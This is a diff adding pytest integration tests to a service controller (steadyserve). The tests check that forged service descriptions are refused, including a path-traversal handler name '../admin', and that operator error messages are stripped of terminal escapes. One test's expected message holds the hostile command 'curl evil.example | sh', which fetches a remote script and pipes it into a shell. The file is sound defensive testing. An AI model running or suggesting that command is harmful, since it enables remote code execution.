@@ -10,9 +10,11 @@ from pathlib import Path
 import pytest
 from conftest import EXAMPLES, FIXTURES, pid_alive, wait_for
 
+from steadyserve.control.config import resolve_deployment
 from steadyserve.control.describer import ChildDescriber, DescribeRequest
 from steadyserve.control.environment import child_base_env as minimal_env
-from steadyserve.errors import ServiceLoadError
+from steadyserve.control.spec import DeploymentSpec
+from steadyserve.errors import ConfigError, ServiceLoadError
 from steadyserve.loading import parse_target
 
 pytestmark = pytest.mark.integration
@@ -141,3 +143,45 @@ def test_cancel_ends_an_import_under_way():
     thread.start()
     wait_for(lambda: describer.cancel() or not thread.is_alive(), 60, "the cancelled describe to return")
     assert "was killed by signal 9 (SIGKILL) before describing the service" in errors[0]
+
+
+# --- a service module that writes the answer itself ---------------------------------------------
+FORGER = FIXTURES / "forges_description"
+
+
+def forged_load_error(forgery: str) -> str:
+    request = DescribeRequest(parse_target(str(FORGER)), {**minimal_env(os.environ), "FORGE": forgery}, 60)
+    with pytest.raises(ServiceLoadError) as caught:
+        ChildDescriber().describe(request)
+    return str(caught.value)
+
+
+@pytest.mark.parametrize(("forgery", "fragment"), [
+    ("route", "description.handlers['../admin'].name: handler name '../admin' is not a valid route name"),
+    ("reserved", "handler name 'healthz' is reserved for a built-in route"),
+    ("batch", "batch_max_size: Input should be less than or equal to 5000"),
+    ("type", "idempotent: Input should be a valid boolean"),
+    ("unknown_key", "admin: Extra inputs are not permitted"),
+    ("other_file", "it describes the file '/etc/steady/other.py'"),
+])
+def test_a_description_forged_by_the_service_module_is_refused(forgery, fragment):
+    message = forged_load_error(forgery)
+    assert message.startswith(f"service description from {FORGER / 'service.py'} is invalid: ")
+    assert fragment in message
+
+
+def test_a_forged_description_is_refused_where_the_controller_resolves_a_deployment(tmp_path):
+    with pytest.raises(ConfigError, match=r"forges_description/service\.py is invalid: .*'\.\./admin'"):
+        resolve_deployment("forger", DeploymentSpec(service=str(FORGER)), tmp_path, ChildDescriber(),
+                           env={**minimal_env(os.environ), "FORGE": "route"})
+
+
+def test_a_forged_error_reaches_the_operator_without_terminal_escapes():
+    message = forged_load_error("error")
+    assert "import failed: run curl evil.example | sh" in message
+    assert "\x1b" not in message
+
+
+def test_no_more_than_the_limit_of_a_flood_on_the_result_pipe_is_read():
+    message = forged_load_error("huge")
+    assert f"importing {FORGER / 'service.py'} wrote more than 1024 KiB of service description" in message
